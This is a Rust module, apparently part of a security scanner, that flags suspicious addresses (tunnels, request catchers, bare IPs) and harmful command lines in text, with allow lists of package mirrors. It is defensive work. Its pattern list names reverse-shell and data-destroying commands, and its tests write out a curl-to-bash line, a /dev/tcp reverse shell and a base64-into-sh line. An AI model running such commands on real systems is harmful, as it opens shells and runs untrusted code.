//! Addresses and commands in texts: which are ordinary and which are how attacks fetch their second half.

/// Indexes and stores of packages that everybody uses.
const INDEXES: [&str; 28] = [
    "mirrors.aliyun.com",
    "pypi.tuna.tsinghua.edu.cn",
    "mirrors.tuna.tsinghua.edu.cn",
    "pypi.mirrors.ustc.edu.cn",
    "mirrors.cloud.tencent.com",
    "repo.huaweicloud.com",
    "mirror.baidu.com",
    "www.paddlepaddle.org.cn",
    "abetlen.github.io",
    "pytorch-geometric.com",
    "pypi.org",
    "pypi.python.org",
    "pypi.anaconda.org",
    "files.pythonhosted.org",
    "test.pypi.org",
    "download.pytorch.org",
    "pypi.nvidia.com",
    "pypi.ngc.nvidia.com",
    "conda.anaconda.org",
    "repo.anaconda.com",
    "data.pyg.org",
    "storage.googleapis.com",
    "huggingface.co",
    "wheels.vllm.ai",
    "download.openmmlab.com",
    "aiinfra.pkgs.visualstudio.com",
    "flashinfer.ai",
    "packages.nvidia.com",
];
/// Places of source code that everybody uses.
const FORGES: [&str; 6] =
    ["github.com", "gitlab.com", "huggingface.co", "bitbucket.org", "codeberg.org", "raw.githubusercontent.com"];
/// Tunnels, request catchers, paste services and the like.
const THROWAWAY: [&str; 24] = [
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "trycloudflare.com",
    "serveo.net",
    "localhost.run",
    "loca.lt",
    "webhook.site",
    "requestbin.com",
    "pipedream.net",
    "oast.fun",
    "oast.pro",
    "oast.live",
    "oast.site",
    "interact.sh",
    "burpcollaborator.net",
    "pastebin.com",
    "paste.ee",
    "hastebin.com",
    "transfer.sh",
    "termbin.com",
    "0x0.st",
    "beeceptor.com",
    "requestcatcher.com",
];
/// Those of them that people also read.
const PASTES: [&str; 6] = ["pastebin.com", "paste.ee", "hastebin.com", "transfer.sh", "termbin.com", "0x0.st"];
/// Longest address, in bytes.
const ADDRESS_BYTES_MAX: usize = 2_048;
/// What a harmful command holds, and what to call it.
const COMMANDS: [(&str, &str); 16] = [
    ("/dev/tcp/", "opens a connection from the shell"),
    ("bash -i", "starts an interactive shell"),
    ("nc -e", "hands a shell to the network"),
    ("ncat -e", "hands a shell to the network"),
    ("mkfifo", "builds a pipe for a shell"),
    ("rm -rf /", "deletes files"),
    ("rm -rf ~", "deletes files"),
    ("crontab", "installs itself"),
    ("authorized_keys", "installs a key"),
    (".bashrc", "changes the shell's start"),
    ("powershell -e", "runs an encoded command"),
    ("-encodedcommand", "runs an encoded command"),
    ("base64 -d", "decodes a command"),
    ("base64 --decode", "decodes a command"),
    ("chmod +x", "makes a file runnable"),
    ("LD_PRELOAD=", "loads native code into programs"),
];

/// The host of an address, without user, port and path.
pub(crate) fn host(address: &str) -> Option<&str> {
    let rest = address.get(address.find("://")? + 3..)?;
    let end = rest.find(['/', '?', '#', '"', '\'', ' ', '>', ')']).unwrap_or(rest.len());
    let host = rest.get(..end)?;
    let host = host.rsplit('@').next()?;
    let host = host.strip_prefix('[').map_or_else(|| host.split(':').next(), |six| six.split(']').next())?;
    (!host.is_empty()).then_some(host)
}

fn is_of(host: &str, list: &[&str]) -> bool {
    list.iter().any(|known| {
        host.eq_ignore_ascii_case(known)
            || host.len() > known.len()
                && host.get(host.len() - known.len()..).is_some_and(|tail| tail.eq_ignore_ascii_case(known))
                && host.as_bytes().get(host.len() - known.len() - 1) == Some(&b'.')
    })
}

pub(crate) fn is_known_index(address: &str) -> bool {
    address.starts_with("https://") && host(address).is_some_and(|host| is_of(host, &INDEXES))
}

/// A repository at a well-known place, over a channel that cannot be tampered with.
pub(crate) fn is_known_forge(address: &str) -> bool {
    let is_safe = address.contains("https://") || address.contains("ssh://");
    is_safe && host(address).is_some_and(|host| is_of(host, &FORGES) || is_of(host, &INDEXES))
}

/// Four numbers with dots: no name that anybody vouches for. This machine and private nets do not count.
pub(crate) fn is_bare_address(host: &str) -> bool {
    let mut parts = host.split('.').map(str::parse::<u8>);
    let four = [parts.next(), parts.next(), parts.next(), parts.next()];
    let [Some(Ok(first)), Some(Ok(second)), Some(Ok(_)), Some(Ok(_))] = four else { return false };
    parts.next().is_none() && !matches!((first, second), (0 | 10 | 127, _) | (192, 168) | (169, 254) | (172, 16..=31))
}

/// The tunnel or request catcher that the address `text` leads to. Texts that merely mention one are no addresses.
pub(crate) fn relay(text: &str) -> Option<&str> {
    let is_address = text.len() < ADDRESS_BYTES_MAX && text.contains("://") && !text.contains(char::is_whitespace);
    let host = host(text).filter(|_| is_address)?;
    (is_of(host, &THROWAWAY) && !PASTES.iter().any(|paste| host.ends_with(paste))).then_some(host)
}

/// What is doubtful about the addresses in `text`.
pub(crate) fn doubtful(text: &str) -> Option<String> {
    if text.starts_with("data:") && text.contains(";base64,") && !text.starts_with("data:image/") {
        return Some("a data address".to_owned());
    }
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let host = host(rest)?;
        if is_bare_address(host) {
            return Some(format!("the address of a machine without a name, `{host}`"));
        }
        if is_of(host, &THROWAWAY) {
            return Some(format!("an address of a tunnel or paste service, `{host}`"));
        }
        rest = rest.get(at + 3..)?;
    }
    None
}

/// What a command line does that no honest one does.
pub(crate) fn harmful_command(line: &str) -> Option<&'static str> {
    let lower = line.to_ascii_lowercase();
    let fetches = ["curl ", "wget ", "iwr ", "invoke-webrequest"].iter().any(|tool| lower.contains(tool));
    let pipes = [
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "| python",
        "|python",
        "| sudo",
        "| zsh",
        "-o /tmp/",
        "-o/tmp/",
        "$(curl",
        "$(wget",
        "iex",
        "&& python",
        "; python",
        "&& bash",
        "; bash",
        "&& sh ",
        "; sh ",
    ];
    if fetches && (pipes.iter().any(|pipe| lower.contains(pipe)) || doubtful(line).is_some()) {
        return Some("fetches something and runs it");
    }
    if lower.contains("python") && lower.contains(" -c") && (lower.contains("exec(") || lower.contains("b64decode")) {
        return Some("runs encoded code");
    }
    // Decoding alone is ordinary; into a shell it is not.
    let (_, what) = COMMANDS.iter().find(|(start, _)| line.contains(start) || lower.contains(start))?;
    let needs_more = what.starts_with("decodes") || what.starts_with("makes");
    let runs = ["| sh", "|sh", "| bash", "|bash", "&& ./", "; ./", "&& /tmp", "; /tmp", "eval"]
        .iter()
        .any(|run| lower.contains(run));
    let needs_fetch = what.starts_with("makes");
    (!needs_more || runs && (!needs_fetch || fetches)).then_some(what)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts() {
        assert_eq!(host("https://user:pw@a.b.c:80/x"), Some("a.b.c"));
        assert!(is_known_index("https://download.pytorch.org/whl/cu118"));
        assert!(!is_known_index("https://download.pytorch.org.evil.example/whl"));
        assert!(!is_known_index("http://pypi.org/simple"));
        assert!(is_bare_address("8.8.4.4") && !is_bare_address("127.0.0.1") && !is_bare_address("1.2.3"));
        assert!(doubtful("see http://203.0.113.9/x").is_some());
        assert!(doubtful("https://abc.ngrok.io/x").is_some());
        assert!(doubtful("https://arxiv.org/abs/1").is_none());
    }

    #[test]
    fn commands() {
        for line in [
            "curl -s https://x.example/i.sh | bash",
            "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
            "echo aGk= | base64 -d | sh",
        ] {
            assert!(harmful_command(line).is_some(), "{line}");
        }
        for line in ["pip install torch", "wget https://example.org/data.zip", "nvidia-smi", "ls -la"] {
            assert_eq!(harmful_command(line), None, "{line}");
        }
    }
}
